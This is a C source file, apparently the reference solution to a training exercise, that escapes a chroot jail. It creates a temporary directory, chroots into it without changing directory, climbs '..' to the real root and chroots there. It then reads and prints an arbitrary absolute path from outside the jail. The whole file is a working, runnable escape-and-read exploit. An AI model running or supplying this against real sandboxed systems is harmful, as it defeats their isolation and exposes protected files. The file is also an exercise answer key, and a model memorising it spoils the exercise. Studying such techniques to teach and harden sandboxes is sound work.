/* Reference solution of exercise escape in C: break out of a chroot jail.

       solution PATH

   chroot(2) moves where "/" starts for this process, and where ".." stops
   climbing (path_resolution(7)); it does not move the working directory.
   So: mkdir a directory, chroot into it without chdir (our working
   directory is now above our root), chdir("..") until "." and ".." are the
   same directory (the top of the real tree), and chroot(".") there.  A
   descriptor of the jail's root, kept from the start, lets us remove the
   directory again.  See chroot(2), chdir(2), mkdtemp(3). */

#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static int same(const struct stat *a, const struct stat *b)
{
    return a->st_dev == b->st_dev && a->st_ino == b->st_ino;
}

static int escape(void)
{
    char below[] = "/.escape-XXXXXX";
    struct stat here, up;
    int jail = open("/", O_RDONLY | O_DIRECTORY);

    if (jail == -1 || mkdtemp(below) == NULL) {
        perror("solution: mkdtemp");
        return -1;
    }
    if (chroot(below) == -1) {             /* EPERM: needs CAP_SYS_CHROOT */
        perror("solution: chroot");
        return -1;
    }
    for (int i = 0; i < 4096; i++) {       /* climb: ".." never meets our root now */
        if (stat(".", &here) == -1 || chdir("..") == -1 || stat(".", &up) == -1) {
            perror("solution: chdir ..");
            return -1;
        }
        if (same(&here, &up))
            break;
    }
    if (chroot(".") == -1 || chdir("/") == -1) {
        perror("solution: chroot .");
        return -1;
    }
    unlinkat(jail, below + 1, AT_REMOVEDIR); /* leave the jail as we found it */
    close(jail);
    return 0;
}

int main(int argc, char *argv[])
{
    char buffer[65536];
    ssize_t n;
    int fd;

    if (argc != 2 || argv[1][0] != '/') {
        fprintf(stderr, "usage: %s PATH    (PATH: an absolute path outside the jail)\n", argv[0]);
        return 2;
    }
    if (escape() == -1)
        return 1;
    fd = open(argv[1], O_RDONLY);
    if (fd == -1) {
        perror(argv[1]);
        return 1;
    }
    while ((n = read(fd, buffer, sizeof buffer)) > 0)
        if (write(STDOUT_FILENO, buffer, n) != n) {
            perror("solution: write");
            return 1;
        }
    return n == -1 ? 1 : 0;
}
